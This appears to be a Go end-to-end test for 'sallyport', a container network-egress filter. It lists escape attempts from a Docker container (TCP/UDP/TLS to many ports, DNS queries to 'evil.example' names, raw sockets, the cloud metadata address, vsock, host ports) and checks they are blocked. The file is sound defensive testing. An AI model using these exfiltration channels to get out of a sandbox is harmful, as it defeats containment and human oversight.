//go:build linux

// Docker tries: ways out of a container. The test first shows that each try
// arrives from a container without sallyport.

package e2e

import (
	"encoding/json"
	"fmt"
	"net"
	"net/netip"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// escape is a task with the text of its arrival if it succeeds: "tcp
// 93.184.250.1:443" or "query NAME" in the internet, or "host tcp" on the Docker
// host.
type escape struct {
	task
	at string
}

// exemptUser is the user of sallyport in the images.
const exemptUser = 53128

// hostPortOpen is the port on which the host listens with every protocol.
const hostPortOpen = 7777

// escapes lists the ways in which the container could reach the outside. bridge is the
// host's address in the container's network. phase becomes a part of each name, so that
// each name is asked once.
func (d *daemon) escapes(bridge netip.Addr, phase string) (all []escape) {
	add := func(at string, k task) {
		if k.Payload == nil {
			k.Payload = []byte("exfiltration")
		}
		if k.Name == "" {
			k.Name = k.How + " " + k.To
		}
		k.Name += map[bool]string{true: fmt.Sprintf(" as %d", k.UID)}[k.UID != 0]
		all = append(all, escape{task: k, at: at})
	}
	for _, v6 := range []bool{false, true} {
		far, license, outside := pick(elsewhere, v6), pick(d.book.of("license.sangfor.com"), v6), pick(d.outsideAddrs(), v6)
		for _, port := range []uint16{22, 25, 80, 443, 853, 8443, 8888} {
			to := netip.AddrPortFrom(far, port).String()
			add("tcp "+to, task{How: "tcp", To: to})
		}
		for _, c := range []struct {
			addr netip.Addr
			port uint16
			sni  string
		}{{far, 443, "evil.example"}, {license, 443, "shared.evil.example"}, {license, 8443, "license.sangfor.com"}, {outside, 443, "dns.google"}} {
			to := netip.AddrPortFrom(c.addr, c.port).String()
			add("tcp "+to, task{How: "tls", To: to, SNI: c.sni, Name: "tls " + c.sni + " " + to})
		}
		for _, c := range []struct {
			addr netip.Addr
			port uint16
		}{{far, 9999}, {far, 443}, {far, 123}, {far, 853}, {license, 443}, {license, 514}} {
			to := netip.AddrPortFrom(c.addr, c.port).String()
			add("udp "+to, task{How: "udp", To: to})
		}
		for how, to := range map[string]string{"udp": netip.AddrPortFrom(outside, 53).String(), "tcp": netip.AddrPortFrom(outside, 53).String()} {
			name := fmt.Sprintf("%s-%t-%s.evil.example", how, v6, phase)
			add("query "+name, task{How: how, To: to, Payload: query(name, how == "tcp"), Name: "query by " + how + " " + to})
		}
		to := netip.AddrPortFrom(far, 9999).String()
		at := netip.AddrPortFrom(far, 0).String()
		add("icmp "+at, task{How: "ping", To: to})
		add("udp "+to, task{How: "raw", Proto: protoUDP, To: to, Name: "raw udp " + to})
		add("tcp "+to, task{How: "raw", Proto: protoTCP, To: to, Name: "raw tcp " + to})
		add("icmp "+at, task{How: "raw", Proto: protoICMP, To: to, Name: "raw icmp " + to})
		for _, n := range []byte{132, 47, 50, 253} { // SCTP, GRE, ESP, an experiment
			add(fmt.Sprintf("protocol-%d %s", n, at), task{How: "raw", Proto: n, To: to, Name: fmt.Sprintf("raw %d %s", n, to)})
		}
		add("tcp "+netip.AddrPortFrom(far, 8080).String(), task{How: "tcp", To: netip.AddrPortFrom(far, 8080).String(), UID: exemptUser})
		add("udp "+netip.AddrPortFrom(far, 8080).String(), task{How: "udp", To: netip.AddrPortFrom(far, 8080).String(), UID: exemptUser})
	}
	frame := netip.AddrPortFrom(pick(elsewhere, false), 9998).String()
	add("udp "+frame, task{How: "frame", Proto: protoUDP, To: frame})
	for _, to := range []string{"169.254.169.254:80", "10.20.66.66:80"} { // the metadata service, and a neighbour of the host
		add("tcp "+to, task{How: "tcp", To: to})
	}
	for _, how := range []string{"udp", "tcp"} {
		name := fmt.Sprintf("docker-%s-%s.evil.example", how, phase)
		add("query "+name, task{How: how, To: "127.0.0.11:53", Payload: query(name, how == "tcp"), Name: "query by Docker's resolver, " + how})
	}
	return append(all, d.hostEscapes(bridge)...)
}

// hostEscapes lead to the Docker host itself: to the bridge, and to an address
// that is not on it.
func (d *daemon) hostEscapes(bridge netip.Addr) (all []escape) {
	for _, address := range []string{bridge.String(), outside4, gateway4} {
		to := fmt.Sprintf("%s:%d", address, hostPortOpen)
		for _, how := range []string{"tcp", "udp", "tcp-link", "udp-link"} {
			network, _, _ := strings.Cut(how, "-")
			text := how + " " + to
			all = append(all, escape{at: "host " + network + " " + text, task: task{How: how, To: to, Name: text, Payload: []byte(text)}})
		}
	}
	to := fmt.Sprintf("255.255.255.255:%d", hostPortOpen)
	return append(all, escape{at: "host udp broadcast", task: task{How: "broadcast", To: to, Name: "broadcast", Payload: []byte("broadcast")}})
}

// ear listens on the Docker host and keeps a list of everything that arrives.
type ear struct {
	mu   sync.Mutex
	seen []string
}

func (e *ear) add(s string) {
	e.mu.Lock()
	defer e.mu.Unlock()
	e.seen = append(e.seen, s)
}

func (e *ear) since(mark int) []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	return slices.Clone(e.seen[mark:])
}

// listenOnHost opens the host's service.
func (d *daemon) listenOnHost(t *testing.T) *ear {
	t.Helper()
	e := &ear{}
	address := fmt.Sprintf("[::]:%d", hostPortOpen)
	l, err := d.gateway.listen(address)
	if err != nil {
		t.Fatal(err)
	}
	p, err := d.gateway.listenPacket(address)
	if err != nil {
		t.Fatal(err)
	}
	var all sync.WaitGroup
	serveEach(l, &all, func(c net.Conn) {
		defer c.Close()
		_ = c.SetDeadline(time.Now().Add(patience))
		b := make([]byte, 256)
		n, _ := c.Read(b)
		e.add("tcp " + string(b[:n]))
	})
	all.Go(func() {
		b := make([]byte, 256)
		for {
			n, _, err := p.ReadFrom(b)
			if err != nil {
				return
			}
			e.add("udp " + string(b[:n]))
		}
	})
	t.Cleanup(func() { l.Close(); p.Close(); all.Wait() })
	return e
}

// probeIn runs tasks in a container, as one of its users.
func (d *daemon) probeIn(t *testing.T, container, user string, escapes []escape) []outcome {
	t.Helper()
	tasks := make([]task, len(escapes))
	for i, e := range escapes {
		tasks[i] = e.task
	}
	in, err := json.Marshal(tasks)
	if err != nil {
		t.Fatal(err)
	}
	r := d.tool(t, string(in), nil, d.client, "exec", "-i", "-u", user, "-e", probeVariable+"=1", container, "/probe")
	var outcomes []outcome
	if err := json.Unmarshal([]byte(r.stdout), &outcomes); err != nil || len(outcomes) != len(tasks) {
		t.Fatalf("the probe in %s: %v %v", container, err, r)
	}
	return outcomes
}

// mustEscape shows that every way out works from a container without sallyport. On
// a busy machine some need a second try.
func (d *daemon) mustEscape(t *testing.T, container string, escapes []escape, host *ear) {
	t.Helper()
	mark, heard := d.rec.mark(t), len(host.since(0))
	for range 4 {
		d.probeIn(t, container, "0", escapes)
		packets, local := d.rec.everything(t, mark), host.since(heard)
		escapes = slices.DeleteFunc(escapes, func(e escape) bool { return e.arrived(packets, local) })
		if len(escapes) == 0 {
			return
		}
	}
	for _, e := range escapes {
		t.Errorf("without sallyport this does not arrive, so that its absence proves nothing: %s", e.Name)
	}
}

func (e escape) arrived(packets []packet, local []string) bool {
	if on, ok := strings.CutPrefix(e.at, "host "); ok {
		return slices.Contains(local, on)
	}
	if name, ok := strings.CutPrefix(e.at, "query "); ok {
		return slices.Contains(queries(packets), name)
	}
	return slices.ContainsFunc(packets, func(p packet) bool { return p.proto+" "+p.dst.String() == e.at })
}

// firstWithoutVsock is the first major version of Docker whose own seccomp
// profile refuses AF_VSOCK.
const firstWithoutVsock = 23

// mustNotOpenVsock tries the sockets that pass no packet filter: a container
// without a seccomp profile opens them.
func (s *stack) mustNotOpenVsock(t *testing.T, service string) {
	t.Helper()
	r := s.tool(t, "", nil, s.client, "version", "--format", "{{.Server.Version}}")
	major, _, _ := strings.Cut(strings.TrimSpace(r.stdout), ".")
	if n, err := strconv.Atoi(major); err != nil || n < firstWithoutVsock {
		t.Logf("Docker %s does not refuse AF_VSOCK, as SECURITY.md says", strings.TrimSpace(r.stdout))
		return
	}
	tries := []escape{{task: task{Name: "a socket to the hypervisor", How: "vsock"}}}
	s.withControl(t, func(control string) {
		for _, o := range s.probeIn(t, control, "1234", tries) {
			if o.Err != "" {
				t.Logf("%s: this kernel has none: %s", o.Name, o.Err)
			}
		}
	})
	for _, user := range []string{"0", "1234"} {
		for _, o := range s.probeIn(t, s.container(t, service), user, tries) {
			if o.Err != unix.EPERM.Error() && o.Err != unix.EAFNOSUPPORT.Error() {
				t.Errorf("user %s, %s: %q %s", user, o.Name, o.Answer, o.Err)
			}
		}
	}
}

// mustNotEscape tries all ways, as root without capabilities and as an ordinary
// user. Nothing may arrive, and no answer may come from outside.
func (d *daemon) mustNotEscape(t *testing.T, container string, escapes []escape, host *ear) {
	t.Helper()
	mark, heard := d.rec.mark(t), len(host.since(0))
	for _, user := range []string{"0", "1234"} {
		for _, o := range d.probeIn(t, container, user, escapes) {
			if strings.Contains("\n"+o.Answer, "\norigin ") || strings.Contains(o.Answer, "leaked") {
				t.Errorf("user %s, %s was answered %q", user, o.Name, o.Answer)
			}
			if o.Err == "" && (strings.HasPrefix(o.Name, "raw ") || strings.HasPrefix(o.Name, "frame ") || strings.Contains(o.Name, " as ")) {
				t.Errorf("user %s, %s: permitted", user, o.Name)
			}
		}
	}
	try{}.check(t, d.scene, d.rec.everything(t, mark))
	for _, s := range host.since(heard) {
		t.Errorf("arrived at the Docker host: %s", s)
	}
}
